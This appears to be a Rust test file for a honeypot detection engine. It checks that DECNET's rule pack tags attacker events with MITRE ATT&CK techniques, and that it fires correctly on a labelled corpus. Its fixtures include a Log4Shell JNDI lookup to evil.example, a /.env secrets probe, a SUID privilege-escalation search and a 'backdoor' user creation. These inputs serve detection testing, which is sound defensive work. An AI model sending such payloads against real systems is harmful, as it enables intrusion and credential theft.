//! DECNET compatibility, generic engine: DECNET's own rule pack, loaded
//! unchanged from `../shared/reference/decnet-rules`, must tag the spec §12
//! examples exactly (uuid, rule, technique, sub-technique, tactic, confidence,
//! evidence with key order) and fire the right rules on DECNET's labelled
//! corpus. When `../shared` is absent these tests print that they were skipped.

mod common;

use common::{assert_tags, decnet_snapshot, shared, tag};
use serde_json::{json, Value};

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn e1_command_two_rules_with_aux_fields() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    let tags = tag(
        &snap,
        json!({"source_kind":"command","source_id":"cmd-1","attacker_uuid":"att-1","session_id":"s-1","decky_id":"d-1",
               "payload":{"command_text":"/bin/sh -c 'id'","uid":"0","user":"root","src":"10.0.0.5","extra":"ignored"}}),
    );
    assert_tags(
        &tags,
        &[
            (
                "R0010",
                "T1059",
                Some("T1059.004"),
                "TA0002",
                0.9,
                "706e10fc-1904-5edd-b654-19ba614d119a",
            ),
            (
                "R0011",
                "T1059",
                None,
                "TA0002",
                0.7,
                "e8b8b450-9852-5f31-a0d0-658c8cf90858",
            ),
        ],
        &[json!({"command_text":"/bin/sh -c 'id'","uid":"0","user":"root","src":"10.0.0.5"})],
    );
    assert_eq!(tags[0].session_id.as_deref(), Some("s-1"));
    assert_eq!(tags[0].decky_id.as_deref(), Some("d-1"));
    assert_eq!(
        tags[0].mitre_url.as_deref(),
        Some("https://attack.mitre.org/techniques/T1059/004")
    );
    assert_eq!(
        tags[1].mitre_url.as_deref(),
        Some("https://attack.mitre.org/techniques/T1059")
    );
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn e2_multi_emit_and_overlapping_rule() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    let tags = tag(
        &snap,
        json!({"source_kind":"command","source_id":"cmd-2","attacker_uuid":"att-1",
               "payload":{"command_text":"find / -perm -u=s -type f 2>/dev/null","pwd":"/tmp"}}),
    );
    assert_tags(
        &tags,
        &[
            (
                "R0015",
                "T1083",
                None,
                "TA0007",
                0.85,
                "b7cadd3d-1be9-5e25-a04f-5cc27d2d0c2e",
            ),
            (
                "R0015",
                "T1548",
                Some("T1548.001"),
                "TA0004",
                0.95,
                "b00fd01e-0b46-5d9b-8c2d-2567dc8c4e71",
            ),
            (
                "R0016",
                "T1083",
                None,
                "TA0007",
                0.65,
                "cbba843b-bc1b-5c93-8596-fd5695dd7f0c",
            ),
        ],
        &[json!({"command_text":"find / -perm -u=s -type f 2>/dev/null","pwd":"/tmp"})],
    );
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn e3_http_request_engine_then_behavioral() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    let tags = tag(
        &snap,
        json!({"source_kind":"http_request","source_id":"http-1","attacker_uuid":"att-2",
               "payload":{"raw_url":"/.env?x=1","user_agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","request_path":"/.env"}}),
    );
    let ua = json!({"user_agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","raw_url":"/.env?x=1"});
    assert_tags(
        &tags,
        &[
            (
                "R0007",
                "T1190",
                None,
                "TA0001",
                0.9,
                "e6771dc3-751e-5d96-8f06-1141f9beffc6",
            ),
            (
                "R0007",
                "T1595",
                Some("T1595.002"),
                "TA0043",
                0.9,
                "2586ef20-b8aa-5ed9-b30b-7e54e972a2a7",
            ),
            (
                "R0036",
                "T1552",
                Some("T1552.001"),
                "TA0006",
                0.9,
                "e1d9ea59-976f-5c86-96a3-92176dd133c3",
            ),
        ],
        &[ua.clone(), ua, json!({"matched_path":"/.env"})],
    );
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn e4_log4j_object_evidence_copied_verbatim() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    let tags = tag(
        &snap,
        json!({"source_kind":"http_request","source_id":"http-2","attacker_uuid":"att-2",
               "payload":{"raw_url":"/?q=${jndi:ldap://evil.example/a}","headers":{"X-Api":"1"}}}),
    );
    assert_tags(
        &tags,
        &[(
            "R0008",
            "T1190",
            None,
            "TA0001",
            0.95,
            "7f481e62-de4c-58c6-9ce2-0fc3f4e71215",
        )],
        &[json!({"raw_url":"/?q=${jndi:ldap://evil.example/a}","headers":{"X-Api":"1"}})],
    );
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn e18_commands_that_produce_nothing() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    for cmd in [
        "ls\nwhoami",
        "lsb_release -a",
        "useradd -m -s /bin/bash backdoor",
    ] {
        let tags = tag(
            &snap,
            json!({"source_kind":"command","source_id":"c","attacker_uuid":"a","payload":{"command_text":cmd}}),
        );
        assert!(tags.is_empty(), "{cmd:?}: {tags:#?}");
    }
    let tags = tag(
        &snap,
        json!({"source_kind":"brand_new_kind","source_id":"c","attacker_uuid":"a","payload":{"x":1}}),
    );
    assert!(tags.is_empty());
}

/// Corpus labels DECNET itself does not fire (see `../shared/README.md`):
/// the brute-force rows lack the aggregated `fail_count`, R0018 and R0024
/// have regex misses, and two ThreatFox rows use the old `ioc_type` field.
fn known_label_problem(label: &str, rule: &str) -> bool {
    matches!(
        (label, rule),
        (
            "hydra_ssh_brute" | "medusa_ssh_brute" | "ncrack_ssh",
            "R0001"
        ) | ("lsb_release", "R0018")
            | ("useradd" | "adduser", "R0024")
    ) || (rule == "R0057" && label.starts_with("threatfox"))
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn corpus_rows_fire_their_rules() {
    let sh = shared();
    let snap = decnet_snapshot(&sh);
    let dir = sh.join("reference/decnet-corpus");
    let mut checked = 0;
    let mut skipped_labels = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        for line in std::fs::read_to_string(&path).unwrap().lines() {
            let row: Value = serde_json::from_str(line).unwrap();
            let label = row["label"].as_str().unwrap();
            let event = json!({"source_kind": row["source_kind"], "source_id": label,
                               "attacker_uuid": "att", "payload": row["payload"]});
            let mut fired: Vec<String> = tag(&snap, event).into_iter().map(|t| t.rule_id).collect();
            fired.sort();
            fired.dedup();
            let mut want: Vec<String> = Vec::new();
            for r in row["expected_rule_ids"].as_array().unwrap() {
                let r = r.as_str().unwrap();
                if known_label_problem(label, r) {
                    skipped_labels += 1;
                } else {
                    want.push(r.to_string());
                }
            }
            want.sort();
            assert_eq!(fired, want, "{}: {label}", path.display());
            checked += 1;
        }
    }
    assert_eq!(checked, 95, "corpus rows read");
    assert_eq!(skipped_labels, 8, "known label problems");
}
